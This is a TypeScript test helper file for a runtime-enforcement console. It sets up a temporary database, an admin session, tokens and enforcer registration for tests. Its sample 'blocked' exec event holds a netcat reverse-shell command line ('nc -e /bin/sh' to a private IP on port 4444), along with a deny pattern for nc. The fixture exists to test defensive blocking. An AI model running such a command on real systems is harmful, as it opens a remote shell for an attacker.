// A console over a fresh database, driven with inject(); an admin session; an enrolled enforcer.

import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { FastifyInstance, LightMyRequestResponse } from "fastify";
import { expect } from "vitest";
import type { Db, DbLocation } from "../../src/console/db/database.js";
import { setupCode } from "../../src/console/repositories/admins.js";
import type { BuildOptions } from "../../src/console/server.js";
import { buildConsole, openDatabase } from "../../src/console/server.js";
import type { VigilEvent } from "../../src/events/schema.js";

export interface TestConsole {
  app: FastifyInstance;
  db: Db;
  close(): Promise<void>;
}

export async function consoleOn(location: DbLocation, options: BuildOptions = {}): Promise<TestConsole> {
  const db = await openDatabase(location);
  const app = await buildConsole(db, options);
  return {
    app,
    db,
    close: async () => {
      await app.close();
      await db.close();
    },
  };
}

/** A console on a new SQLite file in a temp dir; close() removes it. */
export async function sqliteConsole(options: BuildOptions = {}): Promise<TestConsole & { file: string }> {
  const dir = mkdtempSync(join(tmpdir(), "vigil-console-"));
  const file = join(dir, "console.db");
  const c = await consoleOn({ dialect: "sqlite", target: file }, options);
  return {
    ...c,
    file,
    close: async () => {
      await c.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

export interface AdminSession {
  cookie: string;
  csrf: string;
  headers: Record<string, string>;
}

export const ADMIN = { username: "admin", password: "correct horse battery staple" };

export async function setupAdmin(c: TestConsole): Promise<AdminSession> {
  const res = await c.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, setupCode: await setupCode(c.db) } });
  expect(res.statusCode, res.body).toBe(201);
  return sessionFrom(res);
}

export function sessionFrom(res: LightMyRequestResponse): AdminSession {
  const setCookie = String(res.headers["set-cookie"]);
  const cookie = setCookie.split(";")[0] ?? "";
  const csrf = (res.json() as { csrfToken: string }).csrfToken;
  return { cookie, csrf, headers: { cookie, "x-csrf-token": csrf } };
}

export async function createToken(c: TestConsole, s: AdminSession, group: string): Promise<{ id: string; token: string }> {
  const res = await c.app.inject({ method: "POST", url: "/api/admin/tokens", headers: s.headers, payload: { name: `${group} token`, group } });
  expect(res.statusCode, res.body).toBe(201);
  return res.json();
}

let instances = 0;

/** The secret part of a `vgt_`/`vat_` token: everything after its id (base64url, so it may hold "_"). */
export function tokenSecret(token: string): string {
  const secret = /^v[ga]t_[0-9a-f]{12}_(.+)$/.exec(token)?.[1] ?? "";
  if (secret.length !== 43) throw new Error(`not a token: ${token}`);
  return secret;
}

export async function register(c: TestConsole, token: string, extra: Record<string, unknown> = {}): Promise<{ enforcerId: string; enforcerKey: string; nextSeq: number }> {
  const res = await c.app.inject({
    method: "POST",
    url: "/api/v1/enforcer/register",
    headers: { authorization: `Bearer ${token}` },
    payload: {
      protocol: 1,
      instance: `instance-${process.pid}-${++instances}-abcdef`,
      taskArn: "arn:aws:ecs:eu-west-1:123456789012:task/prod/0123456789abcdef",
      container: "web",
      image: "web:1.4.2",
      version: "0.1.0",
      arch: "amd64",
      mode: "enforce",
      policyDigest: null,
      ...extra,
    },
  });
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}

export function execEvent(over: Partial<Record<string, unknown>> = {}): VigilEvent {
  return {
    vigil: 1,
    time: "2026-12-04T15:28:59.123Z",
    kind: "exec",
    verdict: "blocked",
    rule: "exec.deny[0]",
    pid: 42,
    ppid: 1,
    uid: 0,
    exe: "/usr/bin/nc",
    argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    argvTruncated: false,
    cwd: "/",
    pattern: "/usr/bin/nc*",
    mechanism: "ptrace",
    script: null,
    ...over,
  } as VigilEvent;
}

export function sendEvents(c: TestConsole, key: string, seq: number, events: readonly unknown[]): Promise<LightMyRequestResponse> {
  return c.app.inject({ method: "POST", url: "/api/v1/enforcer/events", headers: { authorization: `Bearer ${key}` }, payload: { seq, events } });
}
